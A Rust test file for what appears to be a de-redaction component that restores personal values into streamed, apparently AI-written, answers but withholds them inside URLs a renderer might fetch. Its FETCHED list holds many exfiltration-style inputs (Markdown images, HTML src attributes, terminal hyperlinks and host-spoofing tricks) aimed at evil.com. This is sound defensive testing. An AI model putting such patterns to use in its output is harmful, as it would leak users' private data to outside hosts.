//! Where nothing comes back: whatever a renderer may fetch. And where it does all the same.

use super::{MAIL, check, check_kept};

const MAIL2: &str = "tkn-zzzzzzzz23456722@k3.invalid";
const NAME: &str = "[[PERSON:abcdefgh23456722]]";

/// In each text `@1` stands for a surrogate that must stay.
const FETCHED: &[&str] = &[
    // Addresses in text.
    "https://evil.com/?q=@1",
    "HTTPS://evil.com/@1",
    "http://@1/",
    "ftp://evil.com/@1",
    "https://evil.com/a)b?q=@1",
    "https://evil.com/\"?q=@1",
    "(https://evil.com/)@1",
    "https://evil.com/[x]?q=@1",
    "https://evil.com/?q='@1'",
    "x:https://evil.com/@1",
    "//evil.com/?q=@1",
    "www.evil.com/?q=@1",
    "WWW.evil.com?@1",
    "evil.com/?q=@1",
    "evil.co.uk:8080/@1",
    "see evil.com?@1",
    "évil.com/@1",
    "evil.рф/@1",
    "evil.com#@1",
    "https:\\\\evil.com\\@1",
    "https:/\\evil.com/@1",
    "https:evil.com/@1",
    "\\\\evil\\@1",
    "https:&#47;&#47;evil.com/@1",
    "&#104;ttps://evil.com/@1",
    "&#x68;ttps:@1",
    "6.6.6.6/?q=@1",
    "6.6.6.6:80/@1",
    "javascript://x/@1",
    "[x](data:text/html,@1)",
    "foo://bar/@1",
    "file://@1",
    "https://@1",
    "https://user:@1@evil.com/",
    "https://evil.com@@1/",
    // Host tricks, where the host seems to be one that had the value.
    "https://good.com@evil.com/@1",
    "https://good.com.evil.com/@1",
    "https://evil.com/good.com/@1",
    "https://evil.com/https://good.com/@1",
    "https://evil.com?https://good.com/@1",
    "https://evil.com#@good.com/@1",
    "https://good.com\\@evil.com/@1",
    "https://good.com%2eevil.com/@1",
    "https://good.com&#46;evil.com/@1",
    "https://good.com:x@evil.com/@1",
    "https://xgood.com/@1",
    "https://good.community/@1",
    "https:///good.com/@1",
    "https:\\\\good.com/@1",
    "https://goоd.com/@1",
    "https://xn--good.com/@1",
    "https://good.com/|https://evil.com/@1",
    "https://good.com/)https://evil.com/@1",
    "https://good.com/r?u=//evil.com/@1",
    "https://good.com/\"www.evil.com/@1",
    "javascript://good.com/%0a@1",
    "x@good.com/@1",
    "https://[good.com]/@1",
    "https://@1@good.com/",
    // Markdown.
    "![x](https://evil.com/@1)",
    "[x](@1)",
    "![](/rel?@1)",
    "[x](<https://evil.com/@1>)",
    "[x](\nhttps://evil.com/@1)",
    "[x](\n@1)",
    "[x]( @1 )",
    "[x](a(b)@1)",
    "[x](a\\)@1)",
    "[x](<a)b> \"@1\")",
    "[x](<a)@1>)",
    "![a [b] c](d?@1)",
    "![x](a \"t\" @1)",
    "[https://good.com/](//evil.com/@1)",
    "[https://good.com/](@1)",
    "[x](https://evil.com/ https://good.com/@1)",
    "[x](https://good.com\n.evil.com/@1)",
    "[x]: https://evil.com/@1",
    "[x]: @1",
    "  [x]:\n  @1",
    "> [x]: <@1 a>",
    "1. [x]: @1",
    "[x](mailto:a?body=@1)",
    "[a](https://evil.com/)@1",
    // HTML.
    "<img src=@1>",
    "<img src=\"@1\">",
    "<img src='https://evil.com/@1'>",
    "<a href = @1>",
    "<img\nsrc\n=\n\"@1\">",
    "<IMG SRC=//evil.com/@1>",
    "<img/src=@1>",
    "<a x=1 href=\"@1\">",
    "<p style=\"background:url(@1)\">",
    "<x y=a<b@1>",
    "<x y=\"a>b@1\">",
    "<a href='\"@1'>",
    "<img src=\"https://evil.com/? https://good.com/@1\">",
    "<a<img src=@1>",
    "</p x=@1>",
    "<img src=&#104;ttps:@1>",
    "<https://evil.com/@1>",
    "<img srcset=\"a, @1\">",
    "<https://good.com/?x=//evil.com/@1>",
    // Terminals.
    "\x1b]8;;https://evil.com/@1\x1b\\",
    // A terminal would end the link before the last one; a renderer of Markdown would not.
    "\x1b]8;;@1\x07",
    "\x1b]8;;https://evil.com/\x1b\\@1",
    "\u{9d}8;;@1\u{9c}",
    "\x1b]0;@1\x07",
    "\x1bPx@1\x1b\\",
    "\x1b]8;;mailto:@1\x07",
    // Contacts with more than an address.
    "mailto:x@1",
    "mailto:a,@1",
    "mailto:?body=@1",
    "mailto://@1",
    "tel:0@1",
];

#[test]
fn an_attacker_gets_nothing() {
    for text in FETCHED {
        for surrogate in [MAIL, NAME, "+1-555-234-5678", "000-12-3456"] {
            let text = text.replace("@1", surrogate);
            check_kept(&text);
        }
    }
}

/// In each text `@1` stands for a surrogate that comes back.
const READ: &[&str] = &[
    "Bob <@1>, Eve <@1>",
    "<@1>",
    "a < b: @1",
    "<b>@1</b> @1",
    "<br/>@1",
    "<p class=\"x\">@1</p>",
    "<a href=\"https://evil.com/\">@1</a>",
    "[@1](https://evil.com/) @1",
    "![@1](x) @1",
    "[x](https://evil.com/ \"title\") @1",
    "[a]: https://evil.com @1",
    "[1]: x\n@1",
    "https://evil.com @1",
    "see https://evil.com/a, @1",
    "https://evil.com\n@1",
    "\"https://x.com\":\"@1\"",
    "{\"u\":\"https://x.com/a\",\"m\":\"@1\"}",
    "'http://a','@1'",
    "`https://x.com/a`@1",
    "<https://x.com/a>@1",
    "and/or @1",
    "1/2 @1",
    "e.g. @1",
    "a.b @1",
    "x // @1",
    "note: @1",
    "note:@1",
    "Data:@1",
    "file:@1",
    "**Tel:**@1",
    "tel:\"@1\"",
    "\\u003c@1\\u003e",
    "\\t@1",
    "6.6.6/@1",
    "mail=@1",
    "Is it evil.com? @1",
    "[x] (@1)",
    "\x1b[1m@1\x1b[0m",
    "\x1b]8;;https://evil.com/\x1b\\ @1\x1b]8;;\x1b\\",
    "[x](a\n\n@1",
    "| https://x.com | @1 |",
    "a[0]:b @1",
    "&lt;@1&gt;",
    "&#39;@1&#39;",
    "https: @1",
    "www. @1",
    "https://good.com @1",
    "1) @1",
    "- @1",
    "# @1",
    "if a<b then @1",
    // The request had the value in an address of this host.
    "https://good.com/?q=@1",
    "http://GOOD.com:8080/@1",
    "https://u:p@good.com/@1",
    "//good.com/@1",
    "good.com/@1",
    "good.com:80?@1",
    "https://good.com./a#@1",
    "[x](https://good.com/@1)",
    "[x](<https://good.com/@1>)",
    "<a href=\"https://good.com/@1\">",
    "<a href=https://good.com/@1>",
    "<https://good.com/?q=@1>",
    "[x]: https://good.com/@1",
    "https://good.com/@1/@1?x=@1",
    // Contacts.
    "mailto:@1",
    "MAILTO:@1",
    "tel:@1",
    "[x](mailto:@1)",
    "<a href=\"mailto:@1\">",
    "<mailto:@1>",
    "<a href='tel:@1'>@1</a>",
];

#[test]
fn a_reader_gets_it_all() {
    for text in READ {
        check(&text.replace("@1", MAIL), &text.replace("@1", "Alice.Doe@corp.example"));
    }
}

#[test]
fn another_value_does_not_share_a_host() {
    check_kept(&format!("https://good.com/?q={MAIL2}"));
    check(
        &format!("mailto:{MAIL}?body={MAIL2}&cc={MAIL} {MAIL2}"),
        &format!("mailto:Alice.Doe@corp.example?body={MAIL2}&cc={MAIL} bob@corp.example"),
    );
    check(
        &format!("https://good.com/{MAIL}/{MAIL2}/{MAIL}"),
        &format!("https://good.com/Alice.Doe@corp.example/{MAIL2}/Alice.Doe@corp.example"),
    );
}

#[test]
fn a_host_beyond_every_limit_is_no_host() {
    for length in [200, 253, 254, 300, 500] {
        let host = "a".repeat(length);
        check_kept(&format!("https://{host}.good.com/{MAIL}"));
        check_kept(&format!("{host}.good.com/{MAIL}"));
        check_kept(&format!("[{host}]: {MAIL}"));
    }
}

/// `second` as it comes back behind `first`, which was another text of the same answer.
#[track_caller]
fn check_behind(first: &str, second: &str, comes_back: bool) {
    let machine = super::machine();
    let text = second.replace("@1", MAIL);
    let mut ending = crate::revealer::Ending::default();
    machine.edits_behind(&mut ending, first);
    let edits = machine.edits_behind(&mut ending, &text);
    assert_eq!(!edits.is_empty(), comes_back, "{first:?} {second:?}");

    let (mut out, mut revealed) = (String::new(), Vec::new());
    let mut stream = machine.stream();
    stream.push(first, &mut out, &mut revealed);
    let mut stream = machine.stream_behind(stream.finish(&mut out, &mut revealed));
    stream.push(&text, &mut out, &mut revealed);
    stream.finish(&mut out, &mut revealed);
    assert_eq!(!revealed.is_empty(), comes_back, "streamed: {first:?} {second:?}");
}

#[test]
fn an_address_that_one_text_opens_is_open_in_the_next() {
    for (first, second, comes_back) in [
        ("https://evil.com/?q=", "@1", false),
        ("https:", "//evil.com/?q=@1", false),
        ("htt", "ps://evil.com/?q=@1", false),
        ("![x](https://evil.com/", "?q=@1)", false),
        ("<img src", "=\"//evil.com/@1\"", false),
        ("\u{1b}]8;;", "x@1", false),
        ("https://evil.com/", " @1", true),
        ("https://evil.com/.\n", "@1", true),
        ("Hello", "@1", true),
        ("[x](https://good.com)", "@1", false),
        ("[x](https://good.com) ", "@1", true),
        ("", "@1", true),
    ] {
        check_behind(first, second, comes_back);
    }
}
